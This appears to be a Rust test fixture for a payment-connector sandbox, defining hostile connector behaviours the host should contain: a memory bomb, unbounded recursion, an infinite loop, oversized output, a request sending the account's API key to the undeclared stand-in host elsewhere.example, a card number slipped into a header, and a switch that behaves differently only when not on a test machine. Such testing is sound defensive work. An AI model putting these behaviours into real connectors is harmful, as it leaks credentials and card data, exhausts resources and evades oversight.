//! What the connector does besides, or instead of, its work.

use std::hint::black_box;

use interlock_connector::Host;
use interlock_connector::request::secret;
use interlock_connector::types::{
    Context, Decline, DeclineCode, Failure, Outcome, Pairs, Request, RetryAdvice, Segment,
};

use crate::{attack, gateway, variant};

/// Longer than what one call may copy out of a component.
const GIANT_BYTES: usize = 8 << 20;
/// One more than an operation may have.
const TOO_MANY_EXCHANGES: usize = 9;
/// What is taken at once by [`Trick::Bomb`].
const BOMB_BYTES: usize = 1 << 20;

/// The setting `behaviour`: the name of a trick; alone before anything is asked, with `_after` when the card has been
/// charged, with `_always` then and whenever the connector is asked what became of it.
pub struct Behaviour {
    pub trick: Trick,
    pub when: When,
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum When {
    First,
    After,
    Always,
}

#[derive(Clone)]
pub enum Trick {
    /// None: `well`.
    Well,
    /// Says the same to the gateway in other words: `reworded`.
    Reworded,
    /// Asks whether the gateway is there, and goes on: `two_steps`.
    TwoSteps,
    /// `loop`
    Loop,
    /// `trap`
    Trap,
    /// Recurses until the stack is full: `deep`.
    Deep,
    /// Takes memory until there is none: `bomb`.
    Bomb,
    /// Returns an outcome of some megabytes: `giant`.
    Giant,
    /// Sends the account's secret to an origin that it has not declared: `elsewhere`.
    Elsewhere,
    /// Puts the card's number where it has not said that it would stand: `misplaced`.
    Misplaced,
    /// Asks once more than it may: `nine`.
    Nine,
    /// Says that it makes no sense of anything: `fail`.
    Fail,
    /// Asks for something that the host must not send: one of [`crate::attack`].
    Attack(String),
    /// Says something else of a charge than the gateway does: one of [`crate::lie`].
    Lie(String),
}

impl Behaviour {
    /// Reads it, from the component or from the account; an unknown one is a mistake of the test.
    pub fn of(ctx: &Context) -> Result<Self, Failure> {
        let own = variant::behaviour().filter(|_| is_at_a_gateway(ctx));
        let text = own.as_deref().or_else(|| ctx.setting("behaviour")).unwrap_or("well");
        let (name, when) = match (text.strip_suffix("_after"), text.strip_suffix("_always")) {
            (Some(name), _) => (name, When::After),
            (None, Some(name)) => (name, When::Always),
            (None, None) => (text, When::First),
        };
        let trick = match name {
            "well" => Trick::Well,
            "reworded" => Trick::Reworded,
            "two_steps" => Trick::TwoSteps,
            "loop" => Trick::Loop,
            "trap" => Trick::Trap,
            "deep" => Trick::Deep,
            "bomb" => Trick::Bomb,
            "giant" => Trick::Giant,
            "elsewhere" => Trick::Elsewhere,
            "misplaced" => Trick::Misplaced,
            "nine" => Trick::Nine,
            "fail" => Trick::Fail,
            lie if lie.starts_with("lie_") => Trick::Lie(lie.to_owned()),
            attack if attack::request(attack, "https://gateway.example").is_some() => Trick::Attack(attack.to_owned()),
            _ => return Err(Failure::new(["there is no behaviour ", text].concat())),
        };
        Ok(Self { trick, when })
    }
}

impl Trick {
    /// Plays it; none where the work goes on afterwards.
    pub fn play(&self, ctx: &Context, host: &mut dyn Host) -> Option<Result<Outcome, Failure>> {
        match self {
            Self::Well | Self::Reworded | Self::Lie(_) => return None,
            Self::TwoSteps => match gateway::ping(ctx, host) {
                Ok(_) => return None,
                Err(failure) => return Some(Err(failure)),
            },
            Self::Loop => loop {
                black_box(());
            },
            Self::Trap => panic!("as told"),
            Self::Deep => _ = black_box(deep(0)),
            Self::Bomb => bomb(),
            Self::Giant => return Some(Ok(giant())),
            Self::Elsewhere => {
                let request = Request::post("https://elsewhere.example/charges")
                    .header("authorization", ["Bearer ".into(), secret("api_key")]);
                host.exchange(&request);
            }
            Self::Misplaced => {
                let url = match ctx.url("base_url", "/charges") {
                    Ok(url) => url,
                    Err(failure) => return Some(Err(failure)),
                };
                host.exchange(&Request::post(url).header("x-note", Segment::CardNumber));
            }
            Self::Nine => {
                for _ in 0..TOO_MANY_EXCHANGES {
                    if let Err(failure) = gateway::ping(ctx, host) {
                        return Some(Err(failure));
                    }
                }
            }
            Self::Attack(name) => {
                let base = match ctx.url("base_url", "") {
                    Ok(base) => base,
                    Err(failure) => return Some(Err(failure)),
                };
                if let Some(request) = attack::request(name, base.trim_end_matches('/')) {
                    host.exchange(&request);
                }
            }
            Self::Fail => {}
        }
        Some(Err(Failure::new("this was to end otherwise")))
    }
}

/// Whether the account is one of a test's own, whose gateways are on this machine. Where it is not, the component is being
/// judged: a version that keeps the contract as long as it is looked at is what health and quarantine are for.
fn is_at_a_gateway(ctx: &Context) -> bool {
    ctx.setting("base_url").is_some_and(|url| url.contains("127.0.0.1"))
}

fn deep(depth: u64) -> u64 {
    if black_box(depth) == u64::MAX { 0 } else { black_box(deep(black_box(depth + 1))) + 1 }
}

fn bomb() {
    let mut taken = Vec::new();
    loop {
        taken.push(black_box(vec![1_u8; BOMB_BYTES]));
    }
}

fn giant() -> Outcome {
    Outcome::Declined(Decline {
        code: DeclineCode::Other,
        gateway_code: "giant".to_owned(),
        network_code: None,
        message: "x".repeat(GIANT_BYTES),
        advice: RetryAdvice::Never,
        gateway_reference: None,
        references: Pairs::new(),
        reopenable_for_seconds: 0,
    })
}
